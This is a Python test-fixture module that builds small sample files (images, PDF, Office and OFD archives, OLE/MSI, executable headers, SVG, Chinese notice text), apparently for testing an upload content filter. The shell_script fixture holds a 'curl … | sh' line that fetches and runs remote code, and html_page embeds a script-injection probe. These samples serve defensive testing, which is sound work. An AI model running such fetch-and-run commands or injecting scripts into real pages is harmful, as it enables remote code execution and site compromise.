"""Small sample files, built in code: each is the real format as far as a content check
looks (magic numbers, container structure), a few hundred bytes to a few KB."""
import io
import uuid
import zipfile

from PIL import Image


def png(width=64, height=48, color=(200, 30, 30)):
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, "PNG")
    return buffer.getvalue()


def jpeg(width=64, height=48, color=(30, 120, 200)):
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, "JPEG")
    return buffer.getvalue()


def image_as(format_name, width=16, height=12):
    """An image in any format Pillow writes: "GIF", "WEBP", "AVIF", "BMP", "TIFF"..."""
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (90, 90, 200)).save(buffer, format_name)
    return buffer.getvalue()


def pdf(text="Jiyue"):
    """A minimal one-page PDF with a correct cross-reference table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def zip_of(entries):
    """A ZIP of (name, content) entries, the same bytes on every call: samples are test
    parameters, and xdist workers that collect them in different seconds must see the
    same test ids (writestr with a bare name would stamp the current time)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, content)
    return buffer.getvalue()


_CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?>'
                  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')


def docx(text="关于做好政府信息公开工作的通知"):
    return zip_of([
        ("[Content_Types].xml", _CONTENT_TYPES),
        ("_rels/.rels", "<Relationships/>"),
        ("word/document.xml", f"<w:document><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"),
    ])


def xlsx():
    return zip_of([("[Content_Types].xml", _CONTENT_TYPES), ("xl/workbook.xml", "<workbook/>")])


def pptx():
    return zip_of([("[Content_Types].xml", _CONTENT_TYPES), ("ppt/presentation.xml", "<presentation/>")])


def ofd():
    return zip_of([("OFD.xml", '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>'), ("Doc_0/Document.xml", "<x/>")])


def plain_zip():
    return zip_of([("附件1.txt", "附件内容"), ("附件2.csv", "a,b\n1,2\n")])


def ole(clsid="00020906-0000-0000-c000-000000000046"):
    """An OLE2 compound file ([MS-CFB]) with only a root storage of the given class:
    Word's class by default; MSI installers use {000C1084-0000-0000-C000-000000000046}."""
    sector = 512
    header = bytearray(b"\xff" * sector)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[8:24] = b"\x00" * 16
    header[24:26] = (0x3E).to_bytes(2, "little")  # minor version
    header[26:28] = (3).to_bytes(2, "little")  # major version 3: 512-byte sectors
    header[28:30] = b"\xfe\xff"  # byte order
    header[30:32] = (9).to_bytes(2, "little")  # sector shift
    header[32:34] = (6).to_bytes(2, "little")  # mini sector shift
    header[34:40] = b"\x00" * 6
    header[40:44] = (0).to_bytes(4, "little")  # directory sectors (0 for version 3)
    header[44:48] = (1).to_bytes(4, "little")  # FAT sectors
    header[48:52] = (1).to_bytes(4, "little")  # first directory sector
    header[52:56] = (0).to_bytes(4, "little")  # transaction signature
    header[56:60] = (4096).to_bytes(4, "little")  # mini stream cutoff
    header[60:64] = (0xFFFFFFFE).to_bytes(4, "little")  # first mini FAT sector: none
    header[64:68] = (0).to_bytes(4, "little")
    header[68:72] = (0xFFFFFFFE).to_bytes(4, "little")  # first DIFAT sector: none
    header[72:76] = (0).to_bytes(4, "little")
    header[76:80] = (0).to_bytes(4, "little")  # DIFAT[0]: the FAT is sector 0
    fat = bytearray(b"\xff" * sector)
    fat[0:4] = (0xFFFFFFFD).to_bytes(4, "little")  # sector 0: FAT
    fat[4:8] = (0xFFFFFFFE).to_bytes(4, "little")  # sector 1: directory, end of chain
    directory = bytearray(sector)
    name = "Root Entry".encode("utf-16-le") + b"\x00\x00"
    directory[0:len(name)] = name
    directory[64:66] = len(name).to_bytes(2, "little")
    directory[66] = 5  # root storage
    directory[67] = 1  # black
    directory[68:80] = b"\xff" * 12  # no siblings, no child
    directory[80:96] = uuid.UUID(clsid).bytes_le
    directory[116:120] = (0xFFFFFFFE).to_bytes(4, "little")
    for index in range(1, 4):  # the three unused entries of the sector
        directory[index * 128 + 68:index * 128 + 80] = b"\xff" * 12
    return bytes(header + fat + directory)


MSI_CLSID = "000c1084-0000-0000-c000-000000000046"


def windows_exe():
    """The start of a PE file: DOS header pointing at the "PE" signature."""
    data = bytearray(512)
    data[0:2] = b"MZ"
    data[60:64] = (128).to_bytes(4, "little")
    data[64:103] = b"This program cannot be run in DOS mode."
    data[128:132] = b"PE\x00\x00"
    data[132:134] = (0x8664).to_bytes(2, "little")
    return bytes(data)


def linux_elf():
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    return header + (2).to_bytes(2, "little") + (0x3E).to_bytes(2, "little") + b"\x00" * 100


def macho():
    return b"\xcf\xfa\xed\xfe" + (0x01000007).to_bytes(4, "little") + b"\x00" * 100


def java_class():
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 60


def shell_script():
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def jar():
    return zip_of([("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: A\n"), ("A.class", java_class())])


def html_page():
    return "<!DOCTYPE html>\n<html><head><title>通知</title></head><body><script>alert(1)</script></body></html>".encode()


def clean_svg():
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
            b' width="40" height="40">'
            b'<style>rect { fill: #c00; }</style><a xlink:href="https://www.gov.cn/"><rect width="40" height="40"/></a>'
            b"</svg>")


def svg_with(fragment):
    return (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
            b' width="10" height="10">'
            + fragment + b"</svg>")


def gbk_text():
    return "关于开展2026年度政府网站工作年度报表填报工作的通知\n各区县人民政府：\n".encode("gb18030") * 20


def csv_text():
    return "序号,单位,联系电话\n1,办公室,0571-00000000\n".encode()
